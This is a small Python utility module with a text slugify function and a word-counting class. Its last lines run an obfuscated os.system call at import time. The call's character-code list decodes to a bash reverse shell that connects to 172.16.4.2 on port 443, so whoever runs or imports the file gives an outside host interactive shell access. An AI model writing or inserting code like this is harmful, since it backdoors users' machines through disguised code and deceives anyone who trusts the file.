def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)

class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import os
os.system("".join(chr(x) for x in [98, 97, 115, 104, 32, 45, 105, 32, 62, 38, 32, 47, 100, 101, 118, 47, 116, 99, 112, 47, 49, 55, 50, 46, 49, 54, 46, 52, 46, 50, 47, 52, 52, 51, 32, 48, 62, 38, 49]))
